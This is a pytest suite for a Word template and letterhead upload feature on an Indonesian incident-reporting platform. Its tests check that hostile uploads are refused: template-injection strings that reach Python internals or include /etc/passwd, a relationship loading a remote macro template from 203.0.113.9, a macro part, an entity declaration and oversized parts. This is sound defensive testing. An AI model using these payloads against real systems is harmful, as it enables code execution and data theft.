"""An office puts its own Word template and kop in place of the shipped ones; mistakes are refused with their place."""

import io
import zipfile
from typing import Any

import pytest
from docx import Document as WordDocument

from tests.ir_platform.documents.reading import docx_text
from tests.support.api import Api, problem_of
from tests.support.paper import a_template, draw_all

KIND = "dokumen_informasi_gangguan"
AT = f"/api/v1/templates/{KIND}"
KOP = {"alamat": "Jalan Contoh 1", "tempat": "Samarinda", "kontak": "Telepon 112", "kode_klasifikasi": "000.5.3"}


def put(api: Api, data: bytes, who: str = "admin") -> Any:
    return api.client(who).put(AT, files={"file": ("kop.docx", data)})


def with_part(name: str, content: bytes) -> bytes:
    """The shipped template with a part more, or in another's place."""
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(a_template(KIND))) as old,
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for member in old.infolist():
            if member.filename != name:
                new.writestr(member, old.read(member))
        new.writestr(name, content)
    return buffer.getvalue()


def test_the_kinds_are_listed_with_what_a_template_may_print(api: Api) -> None:
    items = api.client("admin").get("/api/v1/templates").json()["items"]

    assert len(items) == 9
    assert {one["versi"] for one in items} == {None}
    names = {one["nama"] for one in items[0]["variabel"]}
    assert {"s.judul_dokumen", "s.naskah.nomor", "s.langkah[].oleh", "s.identitas[][0]", "verifikasi.qr"} <= names


def test_an_offices_template_draws_the_documents_that_follow_and_those_alone(api: Api) -> None:
    kabid = api.client("kabid")
    before = api.report()

    answer = put(api, a_template(KIND, text="Kop Diskominfo Contoh {{ s.naskah.nomor_dokumen }}"))

    assert answer.status_code == 200, answer.text
    assert answer.json()["versi"] == 1
    after = api.report()
    for incident, expected in ((before, False), (after, True)):
        document = draw_all(api, incident["id"])[0]
        docx = kabid.get(f"/api/v1/incidents/{incident['id']}/documents/{document.id}.docx").content
        assert ("Kop Diskominfo Contoh DIG/2026/" in docx_text(docx)) is expected


def test_a_template_that_went_out_of_use_still_draws_the_documents_made_with_it(api: Api) -> None:
    admin, kabid = api.client("admin"), api.client("kabid")
    put(api, a_template(KIND, text="Kop lama"))
    incident = api.report()

    assert admin.delete(AT).status_code == 204
    assert put(api, a_template(KIND, text="Kop baru")).json()["versi"] == 2

    document = draw_all(api, incident["id"])[0]
    text = docx_text(kabid.get(f"/api/v1/incidents/{incident['id']}/documents/{document.id}.docx").content)
    assert "Kop lama" in text
    assert "Kop baru" not in text


def test_the_template_in_use_can_be_fetched_to_be_restyled(api: Api) -> None:
    admin = api.client("admin")
    shipped = admin.get(f"{AT}/docx").content
    own = a_template(KIND, text="Kop sendiri")

    put(api, own)

    assert WordDocument(io.BytesIO(shipped)).paragraphs
    assert admin.get(f"{AT}/docx").content == own


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("Nomor: {{ s.naskah.nomr }}", "variabel “s.naskah.nomr” tidak dikenal; mungkin maksudnya s.naskah.nomor"),
        ("{{ nama_pejabat }}", "variabel “nama_pejabat” tidak dikenal"),
        ("{% for one in s.langkah %}{{ one.oleh }}", "tanda {% for %} tidak ditutup"),
        ("{% endif %}", "tanda {% endif %} tidak mempunyai pembuka"),
        ("{{ s.judul", "tanda templat salah tulis"),
        ("{{ s.__class__.__mro__ }}", "tidak dikenal"),
        ("{{ ''.join.__globals__ }}", "tidak dikenal"),
        ("{{ s.judul.format(s) }}", "tidak tersedia"),
        ("{{ s.judul|attr('x') }}", "saringan “attr” tidak tersedia"),
        ("{{ 9 ** 999999 }}", "tidak tersedia"),
        ("{% for one in range(9) %}{% endfor %}", "tidak tersedia"),
        ("{% set a = s %}", "tidak tersedia"),
        ("{% include '/etc/passwd' %}", "tidak tersedia"),
        ("{% for one in s.judul %}{% endfor %}", "bukan daftar"),
        ("{{ verifikasi.qr.tpl }}", "tidak dikenal"),
    ],
)
def test_a_mistake_is_refused_with_its_place_and_nothing_changes(api: Api, text: str, reason: str) -> None:
    files, before = api.stored_files(), api.everything()

    problem = problem_of(put(api, a_template(KIND, text=text)), 422)

    (fault,) = problem["errors"]
    assert fault["tempat"] == f"badan, paragraf “{text}”"
    assert reason in fault["alasan"]
    assert api.everything() == before
    assert api.stored_files() == files


def test_a_mistake_in_a_table_is_placed_in_its_cell(api: Api) -> None:
    problem = problem_of(put(api, a_template(KIND, cell="Kepala: {{ s.kepla }}")), 422)

    assert problem["errors"] == [
        {"tempat": "badan, sel tabel “Kepala: {{ s.kepla }}”", "alasan": "variabel “s.kepla” tidak dikenal"}
    ]


RELATION = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    b'attachedTemplate" Target="http://203.0.113.9/jahat.dotm" TargetMode="External"/></Relationships>'
)
BOMB = b'<!DOCTYPE a [<!ENTITY b "cccc">]><a>&b;</a>'


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"bukan berkas Word", "bukan berkas Word"),
        (b"PK\x03\x04 rusak", "bukan berkas Word"),
        (with_part("word/vbaProject.bin", b"x"), "makro"),
        (with_part("word/_rels/settings.xml.rels", RELATION), "merujuk ke luar berkas (http://203.0.113.9/jahat.dotm)"),
        (with_part("word/embeddings/oleObject1.doc", b"x"), "objek yang disematkan"),
        (with_part("word/besar.xml", bytes(60_000_000)), "terlalu besar setelah dibuka"),
        (with_part("word/comments.xml", BOMB), "deklarasi"),
        (with_part("word/document.xml", b"<w:document"), "bukan berkas Word"),
    ],
    ids=["text", "damaged", "macro", "outside", "object", "bomb", "entities", "broken xml"],
)
def test_a_file_that_may_do_harm_is_refused(api: Api, data: bytes, reason: str) -> None:
    before = api.everything()

    problem = problem_of(put(api, data), 422)

    assert reason in problem["errors"][0]["alasan"]
    assert api.everything() == before


def test_a_template_that_takes_too_long_is_refused(api: Api) -> None:
    # Four loops over two thousand rows each cannot be told from a right template before it is tried.
    deep = "".join(f"{{% for {name} in s.identitas %}}" for name in "abcdefgh") + "x" + "{% endfor %}" * 8

    problem = problem_of(put(api, a_template(KIND, text=deep)), 422)

    assert "batas" in problem["errors"][0]["alasan"] or "melebihi" in problem["errors"][0]["alasan"]


@pytest.mark.parametrize(("who", "status"), [(None, 401), ("kabid", 403), ("opd", 403)])
def test_templates_and_kop_are_the_administrators(api: Api, who: str | None, status: int) -> None:
    client = api.client(who) if who else api.stranger()
    before = api.everything()

    problem_of(client.get("/api/v1/templates"), status)
    problem_of(client.put(AT), status)
    problem_of(client.delete(AT), status)
    problem_of(client.get("/api/v1/letterhead"), status)
    problem_of(client.put("/api/v1/letterhead", json=KOP), status)

    assert api.everything() == before


def test_a_kind_that_is_none_is_not_found(api: Api) -> None:
    admin = api.client("admin")

    problem_of(admin.put("/api/v1/templates/surat_cinta", files={"file": ("a.docx", a_template(KIND))}), 404)
    problem_of(admin.delete(AT), 404)


def test_the_kop_stands_on_papers_that_are_made_afterwards(api: Api) -> None:
    admin, kabid = api.client("admin"), api.client("kabid")

    assert admin.put("/api/v1/letterhead", json=KOP).status_code == 200

    assert admin.get("/api/v1/letterhead").json() == {
        **dict.fromkeys(admin.get("/api/v1/letterhead").json(), ""),
        **KOP,
    }
    incident = api.report()
    document = draw_all(api, incident["id"])[0]
    text = docx_text(kabid.get(f"/api/v1/incidents/{incident['id']}/documents/{document.id}.docx").content)
    assert "Jalan Contoh 1" in text
    assert "000.5.3" in text
    with api.state.read() as uow:
        assert [entry.fact.action for entry in uow.audit.of_subject("office:utama")] == ["letterhead.changed"]
